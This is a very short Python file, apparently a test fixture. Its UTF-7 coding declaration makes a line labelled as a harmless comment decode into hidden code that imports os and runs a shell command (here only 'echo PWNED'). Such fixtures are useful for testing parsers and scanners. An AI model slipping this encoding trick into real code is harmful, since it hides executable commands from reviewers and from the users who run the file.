# -*- coding: utf-7 -*-
# harmless comment +AAo-import os+ADs-os.system(+ACI-echo PWNED+ACI-)+AAo-#
best_configs = {
    "('a',)": (0, 1),
}
